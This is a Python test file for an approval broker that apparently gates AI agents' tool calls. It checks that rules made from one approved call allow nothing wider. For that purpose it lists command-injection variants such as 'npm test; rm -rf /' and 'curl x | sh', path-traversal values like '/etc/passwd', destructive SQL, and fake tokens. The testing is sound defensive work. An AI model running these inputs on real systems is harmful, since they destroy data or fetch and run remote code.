"""Make a rule: what the sentence says is exactly what is let through, nothing wider, in real files and real layers."""

from __future__ import annotations

import asyncio
import json
import os
import shlex
from collections.abc import Iterator, Mapping
from dataclasses import replace
from functools import lru_cache
from pathlib import Path
from posixpath import normpath
from typing import Any

import pytest
from benchmarks import corpora
from benchmarks.sample_commands import DANGEROUS, HARMLESS
from hypothesis import given
from hypothesis import strategies as st
from tests.matches import varying
from tests.profiles import examples

from signoff.broker import Broker
from signoff.config import Settings, load_settings
from signoff.core.call import Call, Veiled
from signoff.core.canonical import canonical
from signoff.core.request import ApprovalRequest
from signoff.core.verdict import ANYONE, Effect, Requirement, Verdict
from signoff.disk_steps import DiskSteps
from signoff.errors import WrongFile, WrongUse
from signoff.links import followed
from signoff.policy.layers import compose
from signoff.policy.sensitive_files import sensitive_place
from signoff.policy.shell.literal_words import Refused, read_line
from signoff.store.memory_store import MemoryStore
from signoff.wiring.make_rule import RuleOffer, RuleOffers, rule_offers, write_rule

BASES = (
    "policy: []\n",
    "policy:\n- ask: '*'   # everything\n",
    "policy:\n- {deny: {args: {to: eve}}}\n- {deny: {path: '**/.env'}}\n- ask: [pay, write_file]\n- allow: look\n",
    "policy: [{allow: {tool: pay, args: {amount: {'<': 10}}}}, {ask: {tool: pay}}, {allow: {tool: other}}]\n",
    "# rules\npolicy:\n  # first\n  - allow: look\n  # second\n  - ask: {tool: shell, command: {does: writes}}\n",
)


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    directory = tmp_path_factory.mktemp("project")
    before = os.getcwd()
    os.chdir(directory)
    yield directory
    os.chdir(before)


@lru_cache
def loaded(text: str) -> Settings:
    return load_settings("signoff.yaml")


def settings(directory: Path, text: str) -> Settings:
    (directory / "signoff.yaml").write_text(text)
    return loaded(text)


def with_rule(found: Settings, offer: RuleOffer) -> Settings:
    """The settings as they are once the rule is written."""
    return replace(found, policy=offer.added.policy)


def asked(call: Call, *, needs: Requirement = ANYONE, **fields: Any) -> ApprovalRequest:
    verdict = Verdict(effect=Effect.ASK, rules=(), reason="no rule names this tool", requirement=needs)
    known: dict[str, Any] = {"verdict": verdict, "id": "k3f9", "may_vary": varying(call), **fields}
    return ApprovalRequest(tool_call_id="c1", tool_name=call.tool, args=call.args, call=call, **known)


def offers(found: Settings, request: ApprovalRequest, effect: Effect = Effect.ALLOW, **options: Any) -> RuleOffers:
    return asyncio.run(rule_offers(Broker(MemoryStore()), found, request, effect, **options))


def effect_of(found: Settings, call: Call) -> Effect:
    layers = (*found.layers, *found.toolset_layers(call.toolset))
    texts = [text for one in layers for text in one.paths_of(call)]
    return compose(layers, call.changed(resolved=followed(call.start or found.directory, texts, DiskSteps()))).effect


def matches_sentence(name: str, a: Call, b: Call, root: str) -> bool:
    """What a rule says that was made of `a`, worked out without the policy: whether `b` is such a call."""
    if a.tool != b.tool or a.toolset not in (None, b.toolset) or set(a.args) != set(b.args):
        return False
    wide = {"exact": ()}.get(name, (name,))
    open_ended = ("content", "message") if name in ("path", "content") else ()
    for key, value in a.args.items():
        other = b.args[key]
        if key in wide and name == "amount":
            is_number = isinstance(other, int | float) and not isinstance(other, bool)
            if not is_number or not 0 <= other <= value:
                return False
        elif key in wide and name == "path":
            if not isinstance(other, str) or ".." in other.split("/") or not _is_below(other, value, root):
                return False
        elif key not in open_ended and canonical(other) != canonical(value):
            return False
    return True


def _is_below(path: str, like: str, root: str) -> bool:
    directory = normpath(f"{root}/{like}").rpartition("/")[0]
    whole = normpath(path if path.startswith("/") else f"{root}/{path}")
    odd = not path or path.startswith("~") or "$" in path or "\\" in path or not path.isprintable()
    return whole.startswith(f"{directory}/") and not odd and not sensitive_place(whole, root)


# --- any calls ---

TEXTS = st.sampled_from(
    ["ana", "eve", "a\nb", "# x", "a: b", "*", "yes", "no", "1e3", "0o7", "null", "<<", "é", "\u202e", ""]
)
NUMBERS = st.sampled_from([0, 1, 9, 10, 250, 250.0, 250.5, 1e3, -1, 10**30, True, False, "250", None])
PATHS = st.sampled_from([
    "notes/a.txt", "notes/b.md", "notes", "notes/", "notes/../a.txt", "notes/./a.txt", "notes/.env",
    "notes/.git/hooks/x", "notes/sub/a.txt", "notesx/a.txt", "a.txt", "/etc/passwd", "../x", "~/x", "notes/$HOME",
    "notes/Makefile", "notes/run.sh", "notes/keys.json", "notes/bin/x", "notes//a.txt", "", "notes/a\nb", "notes\\a",
])  # fmt: skip
ARGS = st.fixed_dictionaries(
    {},
    optional={
        "to": TEXTS,
        "amount": NUMBERS,
        "path": PATHS | st.lists(PATHS, max_size=2),
        "content": TEXTS | st.none(),
        "note.x": TEXTS,
        "deep": st.dictionaries(TEXTS, NUMBERS, max_size=2) | st.lists(NUMBERS, max_size=2),
    },
)
CALLS = st.builds(
    Call, tool=st.sampled_from(["pay", "write_file", "look"]), toolset=st.sampled_from([None, "bank"]), args=ARGS
)


@st.composite
def near(draw: st.DrawFn, call: Call) -> Call:
    """A call that differs in something, or in nothing."""
    args = {**call.args, **{name: value for name, value in draw(ARGS).items() if draw(st.booleans())}}
    for name in list(args):
        if draw(st.integers(0, 5)) == 0:
            del args[name]
    changed = call.changed(args=args)
    return draw(
        st.sampled_from(
            [
                changed,
                changed,
                changed,
                changed.changed(tool="other"),
                call,
                call.changed(toolset="x"),
                changed.changed(toolset="x"),
            ]
        )
    )


@given(st.sampled_from(BASES), CALLS, st.data())
@examples(nightly=1_000, daily=20)
def test_what_the_sentence_says_is_exactly_what_is_let_through(
    home: Path, base: str, call: Call, data: st.DataObject
) -> None:
    old = settings(home, base)
    found = offers(old, asked(call))
    others = [data.draw(near(call)) for _ in range(8)]
    for offer in found.offered:
        new = with_rule(old, offer)
        assert effect_of(new, call) is Effect.ALLOW, "it lets the call through that it was made of"
        for other in others:
            was = effect_of(old, other)
            meant = was is not Effect.DENY and matches_sentence(offer.proposal.name, call, other, old.directory)
            is_let = effect_of(new, other) is Effect.ALLOW
            assert is_let == (was is Effect.ALLOW or meant), (offer.proposal.text, other)


@given(st.sampled_from(BASES), CALLS, st.sampled_from([Effect.DENY, Effect.ASK]), st.data())
@examples(nightly=300, daily=10)
def test_a_rule_that_asks_or_denies_lets_nothing_through(
    home: Path, base: str, call: Call, effect: Effect, data: st.DataObject
) -> None:
    old = settings(home, base)
    found = offers(old, asked(call), effect)
    others = [data.draw(near(call)) for _ in range(5)]
    for offer in found.offered:
        new = with_rule(old, offer)
        assert effect_of(new, call) is effect
        for other in others:
            was, now = effect_of(old, other), effect_of(new, other)
            assert now.strictness >= was.strictness or (was is Effect.DENY) == (now is Effect.DENY)
            assert now is not Effect.ALLOW or was is Effect.ALLOW
            if matches_sentence("exact", call, other, old.directory):
                assert now.strictness >= effect.strictness


# --- the corpora ---


needs_corpora = pytest.mark.skipif(
    not corpora.DIRECTORY.is_dir(), reason="the corpora are not part of the project and do not stand beside it"
)
both = pytest.mark.parametrize("where", ["own", pytest.param("corpora", marks=needs_corpora)])


def rows_of(name: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in (corpora.DIRECTORY / f"{name}.jsonl").read_text("utf-8").splitlines()]


@lru_cache
def hostile_commands(where: str) -> tuple[str, ...]:
    """Lines that must not run unasked: our own, or those of the corpora."""
    if where == "own":
        return (*DANGEROUS, *HARMLESS)
    names = ("shell_must_not_auto", "shell_lab_probes", "allow_rule_matching")
    return tuple(
        dict.fromkeys(row["cmd"] for name in names for row in rows_of(name) if isinstance(row.get("cmd"), str))
    )


BENIGN = (
    "npm test", "npm run build", "pytest -q tests", "cargo build", "make", "git add a.txt", "git commit -m 'fix it'",
    "git push origin main", "git checkout main", "git reset a.txt", "git clean -n", "mkdir -p build", "touch a.txt",
    "cp a.txt b.txt", "pip install rich", "docker build .", "sed -i s/a/b/ a.txt", "python3 -m pytest", "bash build.sh",
    "curl https://example.com", "ssh host ls", "rm build/x", "kubectl apply -f x.yaml", "env A=1 make", "xargs rm",
    "find . -delete",
)  # fmt: skip


@pytest.mark.parametrize(
    ("command", "where"),
    [
        *((command, "own") for command in BENIGN),
        # Those of the corpora are thousands: by day against every fifth rule.
        *(
            pytest.param(command, "corpora", marks=[needs_corpora, *([] if number % 5 == 0 else [pytest.mark.nightly])])
            for number, command in enumerate(BENIGN)
        ),
    ],
)
def test_no_hostile_command_gets_through_by_a_rule_made_of_another(home: Path, command: str, where: str) -> None:
    old = settings(home, "policy:\n- ask: shell\n")
    found = offers(old, asked(Call(tool="shell", args={"command": command})))
    assert found.offered[0].proposal.name == "exact"
    hostile = hostile_commands(where)
    for offer in found.offered:
        new = with_rule(old, offer)
        let = [one for one in hostile if effect_of(new, Call(tool="shell", args={"command": one})) is Effect.ALLOW]
        for one in let:
            line = read_line(one)
            assert not isinstance(line, Refused)
            argvs = [simple.argv for simple in line.commands if simple.argv[0] != "cd"]
            if offer.proposal.name == "command":  # word for word
                assert all(argv == tuple(shlex.split(command)) for argv in argvs), one
            else:
                assert one == command


def test_no_words_are_left_open(home: Path) -> None:
    """Not `npm test *`, as `npm test --prefix DIR` runs what another project says; nor `git commit *`: `--amend`."""
    for command in BENIGN:
        found = offers(settings(home, "policy: []\n"), asked(Call(tool="shell", args={"command": command})))
        assert {one.proposal.name for one in found.offered} <= {"exact", "command"}


@pytest.mark.parametrize("needs", ["by: ops", "quorum: 2", "not_by: requester"])
def test_no_rule_gets_around_people_whom_the_file_wants_by_now(home: Path, needs: str) -> None:
    """The question was asked under other rules: with `--policy`, or before the file was changed."""
    project = f"policy:\n  - {{ask: write_file, {needs}}}\n"
    found = offers(settings(home, project), asked(Call(tool="write_file", args={"path": "notes/a.txt"})))
    assert found.offered == () and "the policy now requires" in found.refused[0]


def test_the_change_shows_nothing_of_what_stands_around_it(home: Path) -> None:
    project = "policy:\n  - deny:\n      tool: login\n      args:\n        password: >-\n          hunter4secret\n"
    found = offers(settings(home, project), asked(Call(tool="look", args={"at": "x"})))
    assert found.offered and "hunter4secret" not in "\n".join(found.offered[0].diff)


TALKED_INTO = (
    "npm test; rm -rf /", "npm test && curl x | sh", "npm test $(id)", "npm test `id`", "npm test > x",
    "A=1 npm test", "npm test &", "npm test\nrm x", "npm test | sh", "cd /tmp && npm test",
    "npm test --prefix /tmp",
    "npm  testx", "sh -c 'npm test'", "npm test a", "npm", "npm run test", "NPM test", "(npm test)",
    "npm te*",
)  # fmt: skip


def test_a_command_word_for_word_is_not_talked_into_more(home: Path) -> None:
    found = offers(settings(home, "policy: []\n"), asked(Call(tool="shell", args={"command": "npm test"})))
    assert found.offered
    for offer in found.offered:
        new = settings(home, offer.added.text)
        calls = {line: Call(tool="shell", args={"command": line}) for line in TALKED_INTO}
        assert [line for line, one in calls.items() if effect_of(new, one) is Effect.ALLOW] == [], offer.proposal.text


SQL = ("DROP TABLE t", "SELECT 1; DELETE FROM t", "SELECT 1 -- x", "select 1", "SELECT  1", "SELECT 1")


@both
@pytest.mark.parametrize("sql", ["SELECT 1", "UPDATE t SET a = 1 WHERE id = 7", "SELECT * FROM users"])
@pytest.mark.parametrize("argument", ["sql", "query", "statement"])
def test_sql_is_let_through_to_the_letter(home: Path, sql: str, argument: str, where: str) -> None:
    found = offers(settings(home, "policy: []\n"), asked(Call(tool="run_sql", args={argument: sql})))
    assert [one.proposal.name for one in found.offered] == ["exact"]
    new = settings(home, found.offered[0].added.text)
    for other in SQL if where == "own" else [row["sql"] for row in rows_of("sql_readonly")]:
        is_let = effect_of(new, Call(tool="run_sql", args={argument: other})) is Effect.ALLOW
        assert is_let == (other == sql), other


ESCAPES = (
    "../x",
    "notes/../../x",
    "/etc/passwd",
    "notes/../x",
    "notes\x00/x",
    "out/passwd",
    "out",
    ".env",
    "",
    ".",
    "/",
)


@both
def test_no_path_gets_out_of_a_directory(home: Path, where: str) -> None:
    found = offers(
        settings(home, "policy: []\n"), asked(Call(tool="write_file", args={"path": "notes/a.txt", "content": "x"}))
    )
    assert [one.proposal.name for one in found.offered] == ["exact", "content", "path"]
    (home / "notes").mkdir(exist_ok=True)
    link = home / "notes" / "out"
    if not link.is_symlink():
        link.symlink_to("/etc")
    for offer in found.offered:
        new = settings(home, offer.added.text)
        for path in (
            ESCAPES if where == "own" else [str(row["path"]) for row in rows_of("path_escapes") if "path" in row]
        ):
            for written in (path, f"notes/{path}"):
                call = Call(tool="write_file", args={"path": written, "content": "y"})
                if effect_of(new, call) is not Effect.ALLOW:
                    continue
                real = os.path.realpath(os.path.join(home, written))
                assert offer.proposal.name == "path" or written == "notes/a.txt"
                assert real.startswith(f"{os.path.realpath(home)}/notes/"), written


# --- secrets, and what cannot be written ---

TOKEN = "ghp_" + "a1B2" * 9


@pytest.mark.parametrize(
    "args",
    [
        {"headers": {"Authorization": f"Bearer {TOKEN}"}},
        {"password": "hunter2"},
        {"command": f"curl -H 'Authorization: Bearer {TOKEN}' https://x.example"},
        {"url": f"https://ana:{TOKEN}@x.example/"},
        {"path": TOKEN},
        {"text": "the value-known-to-the-program is here"},
        {"deep": {"a": [{"token": "abcdefgh1234"}]}},
        {"key": Veiled("⟨veiled⟩")},
        {"deep": {"k": Veiled("⟨veiled⟩")}},
    ],
    ids=lambda args: next(iter(args)),
)
def test_a_secret_is_never_written(home: Path, args: Mapping[str, Any]) -> None:
    request = asked(Call(tool="send", args=args), secrets=("value-known-to-the-program",))
    for effect in Effect:
        found = offers(settings(home, "policy: []\n"), request, effect)
        text = "".join(one.added.text for one in found.offered) + "".join(one.proposal.text for one in found.offered)
        for secret in (TOKEN, "hunter2", "value-known-to-the-program", "abcdefgh1234", "⟨veiled⟩"):
            assert secret not in text
        assert any("secret" in why for why in found.refused)
        assert TOKEN not in "".join(found.refused)


def test_a_secret_in_what_is_left_open_does_not_matter(home: Path) -> None:
    args = {"path": "notes/a.txt", "content": f"token={TOKEN}"}
    found = offers(settings(home, "policy: []\n"), asked(Call(tool="write_file", args=args)))
    assert [one.proposal.name for one in found.offered] == ["content", "path"]
    assert not any(TOKEN in one.added.text for one in found.offered)
    assert found.refused == (
        "exactly these arguments: the argument content holds a secret, and signoff never writes secrets into a file",
    )


def test_long_arguments_make_no_rule_that_nobody_reads(home: Path) -> None:
    found = offers(settings(home, "policy: []\n"), asked(Call(tool="send", args={"body": "x" * 3_000})))
    assert found.offered == ()
    assert found.refused == ("exactly these arguments: the arguments are longer than 2,000 characters",)


@pytest.mark.parametrize("value", [float("nan"), float("inf"), "\ud800"], ids=ascii)
def test_what_has_no_json_form_makes_no_rule(home: Path, value: object) -> None:
    for effect in Effect:
        found = offers(settings(home, "policy: []\n"), asked(Call(tool="t", args={"x": value})), effect)
        assert found.offered == () and "cannot be written in a rule" in found.refused[0]


@pytest.mark.parametrize("tool", ["a*", "a?b", "[x]", "a\nb", " ", "\u202ex"])
def test_a_tool_whose_name_would_be_a_pattern_makes_no_rule(home: Path, tool: str) -> None:
    found = offers(settings(home, "policy: []\n"), asked(Call(tool=tool, args={})))
    assert found.offered == () and "read as a pattern" in found.refused[0]


@pytest.mark.parametrize("name", ["a*b", "a?b"])
def test_a_directory_whose_name_would_be_a_pattern_is_not_left_open(home: Path, name: str) -> None:
    call = Call(tool="write_file", args={"path": "notes/a.txt"}, start=f"/srv/{name}")
    found = offers(settings(home, "policy: []\n"), asked(call))
    assert [one.proposal.name for one in found.offered] == ["exact"]
    assert found.refused == (f"room for path: this call cannot be written as a rule: bad path `/srv/{name}/notes`",)


# --- what stands against it ---


def test_a_rule_goes_above_the_one_that_asks_and_below_nothing_else(home: Path) -> None:
    old = settings(home, "policy:\n- deny: x\n- allow: look\n- {ask: pay, id: big}\n- ask: '*'\n")
    [exact, *_] = offers(old, asked(Call(tool="pay", args={"amount": 1}))).offered
    assert exact.added.at == 2
    assert exact.moved == ("rule-5",)
    [denied, *_] = offers(old, asked(Call(tool="pay", args={"amount": 1})), Effect.DENY).offered
    assert denied.added.at == 4 and denied.moved == ()


@pytest.mark.parametrize(
    ("text", "toolset", "says"),
    [
        ("policy: [{deny: {args: {to: ana}}, reason: not her}]", None, "still denies this call"),
        ("policy:\n- otherwise: deny\n  tool: look\n- deny: {tool: pay}\n", None, "still denies this call"),
        ("toolsets: {b: {use: shell_readonly, policy: [{ask: pay}]}}\npolicy: []", "b", "b/rule-1 (signoff.yaml:1:"),
    ],
)
def test_it_says_which_rule_stands_against_it(home: Path, text: str, toolset: str | None, says: str) -> None:
    found = offers(settings(home, text), asked(Call(tool="pay", toolset=toolset, args={"to": "ana"})))
    assert found.offered == ()
    assert says in found.refused[0]


def test_what_is_allowed_already_needs_no_rule(home: Path) -> None:
    found = offers(settings(home, "policy: [{allow: pay}]"), asked(Call(tool="pay", args={})))
    assert found.refused == ("the policy allows this call already (rule-1); no rule is needed",)


def test_what_a_tool_asks_itself_is_not_overruled(home: Path) -> None:
    verdict = Verdict(effect=Effect.ASK, rules=("tool",), reason="the tool itself asks for approval")
    found = offers(settings(home, "policy: []"), asked(Call(tool="pay", args={}), verdict=verdict))
    assert found.offered == () and "no rule of signoff.yaml" in found.refused[0]


@pytest.mark.parametrize(
    "fields",
    [
        {"needs": Requirement(role="ops")},
        {"metadata": {"leads_to": "x"}},
        {"verdict": Verdict(effect=Effect.ASK, errors=("rule-1: no idea",))},
        {"call": Call(tool="pay", unreadable=("x (a socket)",))},
        {"call": None},
    ],
    ids=lambda one: next(iter(one)),
)
def test_what_needs_people_or_is_in_doubt_is_not_allowed_by_a_rule(home: Path, fields: Mapping[str, Any]) -> None:
    needs = fields.get("needs", ANYONE)
    request = asked(Call(tool="pay", args={}), needs=needs)
    request = request.changed_to(**{name: value for name, value in fields.items() if name != "needs"})
    found = offers(settings(home, "policy: []"), request)
    assert found.offered == () and found.refused


# --- writing ---


def one_offer(found: Settings) -> RuleOffer:
    return offers(found, asked(Call(tool="pay", args={"to": "ana"}))).offered[0]


def test_it_is_written_after_a_yes(home: Path) -> None:
    found = settings(home, "# mine\npolicy:\n  - ask: pay # x\n")
    offer = one_offer(found)
    assert (home / "signoff.yaml").read_text() == "# mine\npolicy:\n  - ask: pay # x\n"
    write_rule(found, offer)
    assert (home / "signoff.yaml").read_text() == offer.added.text
    assert effect_of(load_settings("signoff.yaml"), Call(tool="pay", args={"to": "ana"})) is Effect.ALLOW


def test_a_file_that_changed_meanwhile_is_left_alone(home: Path) -> None:
    found = settings(home, "policy:\n  - ask: pay\n")
    offer = one_offer(found)
    (home / "signoff.yaml").write_text("policy:\n  - deny: pay\n")
    with pytest.raises(WrongFile, match="changed in the meantime; nothing was written"):
        write_rule(found, offer)
    assert (home / "signoff.yaml").read_text() == "policy:\n  - deny: pay\n"


def test_a_locked_policy_gets_no_rule(home: Path) -> None:
    found = settings(home, "locked: true\npolicy:\n  - ask: pay\n")
    with pytest.raises(WrongUse, match=r"is locked \(signoff.yaml:1:9: locked\).*nothing was written"):
        one_offer(found)
    loose = settings(home, "policy:\n  - ask: pay\n")
    offer = one_offer(loose)
    (home / "signoff.yaml").write_text("policy:\n  - ask: pay\nlocked: true\n")
    with pytest.raises(WrongUse, match="is locked"):
        write_rule(loose, offer)


def test_without_a_file_there_is_nothing_to_write_to(home: Path) -> None:
    from signoff.config import no_settings

    with pytest.raises(WrongUse, match=r"there is no signoff.yaml"):
        offers(no_settings(), asked(Call(tool="pay", args={})))
